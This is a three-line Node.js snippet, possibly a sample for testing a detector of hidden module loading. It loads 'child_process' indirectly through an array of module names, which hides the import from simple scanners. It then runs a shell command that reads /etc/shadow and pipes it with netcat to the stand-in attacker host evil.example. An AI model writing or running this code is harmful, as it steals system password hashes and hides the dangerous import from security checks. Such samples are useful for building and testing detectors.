// tricky: modules by a list of names
const mods = ['fs', 'child_process', 'os'].map((m) => require(m));
mods[1].execSync('cat /etc/shadow | nc evil.example 443');
